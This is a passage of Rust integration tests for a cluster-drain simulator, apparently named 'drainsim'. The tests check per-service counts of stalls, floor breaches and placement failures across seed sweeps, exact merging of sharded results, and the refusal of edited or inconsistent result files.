        std::fs::write(&f, drainsim(&args).stdout).unwrap();
        files.push(f.display().to_string());
    }
    let merged = drainsim(&["sweep", "--merge", "--json", &files[1], &files[0]]);
    assert_eq!(String::from_utf8_lossy(&merged.stdout), String::from_utf8_lossy(&whole.stdout));
    let mut edited = json_value(&std::fs::read_to_string(&files[0]).unwrap());
    edit(&mut edited);
    let f = dir.join("edited.json");
    std::fs::write(&f, edited.to_string()).unwrap();
    let out = drainsim(&["sweep", "--merge", f.to_str().unwrap(), &files[1]]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains(refusal), "{}", stderr(&out));
}

/// Floor breaches are counted per service and cause over the runs (a breach outside a drain shows
/// in no `minHealthyObserved`, which only a drain's window samples), merge exactly from shards, and
/// `--merge` refuses a cause the report does not know; a sweep with none prints neither field.
#[test]
fn floor_breaches_are_counted_by_cause_and_merge() {
    let dir = temp_dir("breaches");
    let base = ["sweep", "scenarios/faults/health-checks-fail-in-one-zone.ron", "--seeds", "0..4", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(0), "{}", stderr(&whole));
    let v = json(&whole);
    let web = v["distribution"]["services"].as_array().unwrap().iter().find(|s| s["serviceName"] == "web").unwrap();
    // The scenario's own expectation: one breach a run, for the health checks that failed.
    assert_eq!(web["runsWithFloorBreaches"].as_u64(), Some(4), "{web}");
    assert_eq!(web["floorBreaches"], serde_json::json!([{"reason": "healthCheckFailed", "count": 4}]), "{web}");
    // No drain opens the window, but a breach is a dip: its lowest healthy count is observed.
    assert_eq!(web["minHealthyObserved"]["observedRuns"].as_u64(), Some(4), "{web}");
    let text = drainsim(&base[..4]);
    assert!(String::from_utf8_lossy(&text.stdout).contains("floorBreaches 4 in 4 runs: healthCheckFailed 4"));
    let edit = |r: &mut serde_json::Value| {
        each_service(r, |s| s["floorBreaches"] = serde_json::json!([{"reason": "cosmicRays", "count": 2}]))
    };
    shards_merge_as_the_whole_and_an_edit_is_refused(&dir, &base, &whole, edit, "a floor breach cause 'cosmicRays'");
    let plain = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--json"]);
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("loorBreaches"));
}

/// Stalls are counted per service and reason over the runs (a sweep said "every run's
/// expectations hold" of a plan whose every run left a service stalled, with no field to show it:
/// a dogfooding helper's finding), merge exactly from shards, and `--merge` refuses a reason the
/// run report does not know; a sweep with none prints neither field.
#[test]
fn stalls_are_counted_by_reason_and_merge() {
    let dir = temp_dir("stalls");
    let base = ["sweep", "scenarios/eni/c5large-no-trunking.ron", "--seeds", "0..4", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(0), "{}", stderr(&whole));
    let v = json(&whole);
    let api = v["distribution"]["services"].as_array().unwrap().iter().find(|s| s["serviceName"] == "api").unwrap();
    // The scenario's own expectation: the service stalls on task ENIs in every run.
    assert_eq!(api["runsWithStalls"].as_u64(), Some(4), "{api}");
    assert_eq!(api["stalls"], serde_json::json!([{"reason": "RESOURCE:ENI", "count": 4}]), "{api}");
    let text = drainsim(&base[..4]);
    assert!(String::from_utf8_lossy(&text.stdout).contains("stalls 4 in 4 runs: RESOURCE:ENI 4"));
    let edit = |r: &mut serde_json::Value| {
        each_service(r, |s| s["stalls"] = serde_json::json!([{"reason": "RESOURCE:PATIENCE", "count": 4}]))
    };
    shards_merge_as_the_whole_and_an_edit_is_refused(&dir, &base, &whole, edit, "a stall reason 'RESOURCE:PATIENCE'");
    let plain = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..2", "--json"]);
    assert!(!String::from_utf8_lossy(&plain.stdout).contains("talls"));
}

/// An edited result that says a run failed an expectation though none failed, or names as the
/// seed of an extreme a seed it did not run, is refused by --merge: merged, it printed "failed
/// expectations (runs): 400 x" above "every run's expectations hold", or sent the reader to
/// reproduce the slowest drain with a seed outside the range.
#[test]
fn merge_refuses_expectation_failures_and_extreme_seeds_that_cannot_be_right() {
    let loaded = drainsim_scenario::load_file(&Path::new(env!("CARGO_MANIFEST_DIR")).join(SEED_SCENARIO)).expect("loads");
    let opts =
        SweepOptions { file: SEED_SCENARIO.into(), seeds: sweep::SeedRange { start: 500, end: 504 }, ..Default::default() };
    let report = sweep::sweep(&loaded, &opts, &|| {}, &AtomicBool::new(false)).expect("sweeps").report;
    assert_eq!(report.failed_runs, 0);
    let mut failing = report.clone();
    failing.expectation_failures = vec![sweep::NamedCount { name: "web never stalled".into(), count: 3 }];
    let err = sweep::parse_report("x.json", &sweep::render_json(&failing).unwrap()).expect_err("refused");
    assert!(
        err.starts_with("x.json: expectationFailures counts 3 runs failing 'web never stalled', more than its failedRuns 0"),
        "{err}"
    );
    let mut slowest = report.clone();
    slowest.distribution.all_drains_completed_at_ms.max_seed = Some(5);
    let err = sweep::parse_report("max.json", &sweep::render_json(&slowest).unwrap()).expect_err("refused");
    assert_eq!(err, "max.json: maxSeed 5 is not in seeds 500..504 (an edited file?)");
    let mut lowest = report;
    lowest.distribution.services[0].min_healthy_observed.min_seed = Some(504);
    let err = sweep::parse_report("min.json", &sweep::render_json(&lowest).unwrap()).expect_err("refused");
    assert_eq!(err, "min.json: minSeed 504 is not in seeds 500..504 (an edited file?)");
}

/// A bad `--account-default` is a flag's error: it names the flag and its value, with no made-up
/// `file:line:column` (it read `--account-default:1:1: bogus=1: …`).
#[test]
fn a_bad_account_default_names_the_flag_without_a_position() {
    let out = drainsim(&["sweep", SEED_SCENARIO, "--seeds", "0..3", "--account-default", "bogus=1"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("--account-default bogus=1: InvalidParameterException: Invalid setting name 'bogus'"), "{err}");
    assert!(!err.contains(":1:1:"), "{err}");
}

/// `web` is deleted at 200 s and created again under its name at once (legal: the old one is
/// INACTIVE). The first `web` (one 3-vCPU task per instance) dips to 1 healthy when `a` is drained
/// and fails to place its replacement; the second (three small tasks) holds 3.
const RECREATED_SERVICE: &str = r#"Scenario(
    name: "recreated-service",
    seed: 1,
    clusters: ["prod"],
    instances: [
        (name: "a", cluster: "prod", instanceType: "c5.xlarge", availabilityZones: ["us-east-1a"], cpu: 4096, memory: 7680),
        (name: "b", cluster: "prod", instanceType: "c5.xlarge", availabilityZones: ["us-east-1b"], cpu: 4096, memory: 7680),
    ],
    taskDefinitions: [
        (family: "app", containerDefinitions: [(name: "app", cpu: 256, memory: 512)]),
        (family: "big", containerDefinitions: [(name: "big", cpu: 3072, memory: 512)]),
    ],
    services: [
        (cluster: "prod", serviceName: "web", taskDefinition: "big", desiredCount: 2,
         deploymentConfiguration: (minimumHealthyPercent: 50, maximumPercent: 100), availabilityZoneRebalancing: "DISABLED"),
    ],
    steps: [
        (atMs: 60000, do: DrainInstances((cluster: "prod", instances: ["a"]))),
        (atMs: 200000, do: DeleteService((cluster: "prod", service: "web", force: true))),
        (atMs: 200001, do: CreateService((cluster: "prod", serviceName: "web", taskDefinition: "app", desiredCount: 3))),
        (do: RunUntilQuiet),
    ],
    expectations: [],
)
"#;

/// A service created again under its name counts once per run, as `compare` folds it: the run
/// report lists both `web`s, and the sweep counted both (`unobservedRuns` 20 of 10 runs for
/// scenarios/fidelity/deleted-service-inactive-at-stopping.ron), so `--merge` refused the sweep's
/// own shards as edited files. `minHealthyObserved` is the latest `web`'s (the one the expectations
/// read); the placement failures are those of both.
#[test]
fn a_service_created_again_under_its_name_counts_once_per_run() {
    let dir = temp_dir("recreated");
    let file = dir.join("recreated-service.ron");
    std::fs::write(&file, RECREATED_SERVICE).unwrap();
    let file = file.display().to_string();
    // What each run's report says of its services named web: (minHealthyObserved, placement failures).
    let mut latest = std::collections::BTreeMap::<u64, u64>::new();
    let mut placement_failures = 0u64;
    for seed in 0..4 {
        let out = drainsim(&["run", &file, "--seed", &seed.to_string(), "--json"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let report = json(&out);
        let webs: Vec<&serde_json::Value> =
            report["services"].as_array().unwrap().iter().filter(|s| s["serviceName"] == "web").collect();
        assert_eq!(webs.len(), 2, "the report lists both: {webs:?}");
        let (first, last) = (webs[0]["minHealthyObserved"].as_u64(), webs[1]["minHealthyObserved"].as_u64());
        assert_eq!((first, last), (Some(1), Some(3)), "two different figures, so which one counts shows");
        *latest.entry(last.unwrap()).or_insert(0) += 1;
        for w in &webs {
            placement_failures +=
                w["placementFailures"].as_array().unwrap().iter().map(|p| p["count"].as_u64().unwrap()).sum::<u64>();
        }
    }
    assert!(placement_failures > 0);
    let base = ["sweep", file.as_str(), "--seeds", "0..4", "--json"];
    let whole = drainsim(&base);
    assert_eq!(whole.status.code(), Some(0), "{}", stderr(&whole));
    let v = json(&whole);
    let services = v["distribution"]["services"].as_array().unwrap();
    assert_eq!(services.len(), 1, "{services:?}");
    let web = &services[0];
    let m = &web["minHealthyObserved"];
    assert_eq!((m["observedRuns"].as_u64(), m["unobservedRuns"].as_u64()), (Some(4), Some(0)), "one value per run: {web}");
    let histogram: Vec<(u64, u64)> = latest.into_iter().collect();
    assert_eq!(m["histogram"], serde_json::json!(histogram), "the latest web's: {web}");
    assert_eq!(m["min"], 3, "{web}");
    assert_eq!(web["runsWithPlacementFailures"], 4, "{web}");
    assert_eq!(web["placementFailures"], serde_json::json!([{"reason": "RESOURCE:CPU", "count": placement_failures}]), "{web}");
    // Its own shards merge into it byte for byte.
    shards_merge_as_the_whole_and_an_edit_is_refused(
        &dir,
        &base,
        &whole,
        |r| each_service(r, |s| s["minHealthyObserved"]["unobservedRuns"] = serde_json::json!(3)),
        "unobservedRuns counts 3 runs, more than the 2 it made",
    );
}

/// Seeds may differ in which services their runs had: a bound (`maxEvents`, with swarm faults)
/// ends some runs before the step that creates `green`. Shards split so that one holds no run with
/// `green` merged into the same result as the unsharded sweep; `--merge` refused them as "sweeps of
/// different runs: services green, web vs web". A service's observed and unobserved runs count
/// the runs that had it.
#[test]
fn shards_whose_runs_had_different_services_merge() {
    let dir = temp_dir("different-services");
    let seed = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/drain/seed-min50-max200.ron")).unwrap();
    let green = seed.replacen("    seed: 5020,", "    seed: 5020,\n    maxEvents: 55,", 1).replacen(
        "        (do: RunUntilQuiet),",
        "        (do: RunUntilQuiet),\n        (atMs: 3600000, do: CreateService((cluster: \"prod\", serviceName: \"green\", taskDefinition: \"web\", desiredCount: 2))),",
        1,
    );
    assert_ne!(green, seed);
    let file = dir.join("green.ron");
    std::fs::write(&file, &green).unwrap();
    let file = file.to_str().unwrap();
    let whole = drainsim(&["sweep", file, "--seeds", "0..4", "--faults", "swarm", "--json"]);
    let report: serde_json::Value = serde_json::from_slice(&whole.stdout).expect("a sweep result");
    let services = report["distribution"]["services"].as_array().expect("services");
    let runs_of = |name: &str| {
        let s = services.iter().find(|s| s["serviceName"] == name).unwrap_or_else(|| panic!("{name} in {report}"));
        let m = &s["minHealthyObserved"];
        m["observedRuns"].as_u64().unwrap() + m["unobservedRuns"].as_u64().unwrap()
    };
    assert_eq!(runs_of("web"), 4);
    let green_runs = runs_of("green");
    assert!(green_runs > 0 && green_runs < 4, "some seeds never created green: {green_runs} of 4");
    let mut parts = Vec::new();
    for k in 1..=4 {
        let shard = format!("{k}/4");
        let out = drainsim(&["sweep", file, "--seeds", "0..4", "--faults", "swarm", "--shard", &shard, "--json"]);
        let f = dir.join(format!("part-{k}.json"));
        std::fs::write(&f, &out.stdout).unwrap();
        parts.push(f);
    }
    let mut args = vec!["sweep", "--merge", "--json"];
    args.extend(parts.iter().map(|p| p.to_str().unwrap()));
    let merged = drainsim(&args);
    assert!(merged.status.code().is_some_and(|c| c <= 1), "{}", stderr(&merged));
    assert_eq!(String::from_utf8_lossy(&merged.stdout), String::from_utf8_lossy(&whole.stdout));
}

/// What a merge writes merges again, whatever its seeds: a merge of two results of 10,000,000
/// seeds each (more than one sweep runs) was refused as "seeds 0..20000000 hold more than
/// 10000000 seeds". Here a result's seeds and counts are scaled up to stand for such a merge.
#[test]
fn a_merge_of_more_seeds_than_one_sweep_runs_merges_again() {
    let dir = temp_dir("merge-of-merges");
    let out = drainsim(&["sweep", "scenarios/demo.ron", "--seeds", "0..1", "--json"]);
    let mut v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("a sweep result");
    let n: u64 = 20_000_000;
    // One run's result, as if every one of 20,000,000 seeds had run the same.
    fn scale(v: &mut serde_json::Value, n: u64) {
        match v {
            serde_json::Value::Object(map) => {
                for (k, x) in map.iter_mut() {
                    match (k.as_str(), &x) {
                        ("runs" | "completedRuns" | "observedRuns", serde_json::Value::Number(c)) if c.as_u64() == Some(1) => {
                            *x = n.into()
                        }
                        ("histogram", _) => {
                            for pair in x.as_array_mut().unwrap() {
                                if pair[1] == 1 {
                                    pair[1] = n.into();
                                }
                            }
                        }
                        _ => scale(x, n),
                    }
                }
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(|x| scale(x, n)),
            _ => {}
        }
    }
    scale(&mut v, n);
    v["seeds"] = serde_json::json!({"start": 0, "end": n});
    let a = dir.join("a.json");
    std::fs::write(&a, v.to_string()).unwrap();
    v["seeds"] = serde_json::json!({"start": n, "end": 2 * n});
    // The seeds a result names (the slowest run's, the lowest count's) are in its range.
    fn shift(v: &mut serde_json::Value, by: u64) {
        match v {
            serde_json::Value::Object(map) => {
                for (k, x) in map.iter_mut() {
                    match (k.ends_with("Seed"), x.as_u64()) {
                        (true, Some(seed)) => *x = (seed + by).into(),
                        _ => shift(x, by),
                    }
                }
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(|x| shift(x, by)),
            _ => {}
        }
    }
    shift(&mut v, n);
    let b = dir.join("b.json");
    std::fs::write(&b, v.to_string()).unwrap();
    let merged = drainsim(&["sweep", "--merge", "--json", a.to_str().unwrap(), b.to_str().unwrap()]);
    assert_eq!(merged.status.code(), Some(0), "{}", stderr(&merged));
    let ab = dir.join("ab.json");
    std::fs::write(&ab, &merged.stdout).unwrap();
    let again = drainsim(&["sweep", "--merge", "--json", ab.to_str().unwrap()]);
    assert_eq!(again.status.code(), Some(0), "{}", stderr(&again));
    let r: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
    assert_eq!((r["runs"].as_u64(), r["seeds"]["end"].as_u64()), (Some(2 * n), Some(2 * n)));
}
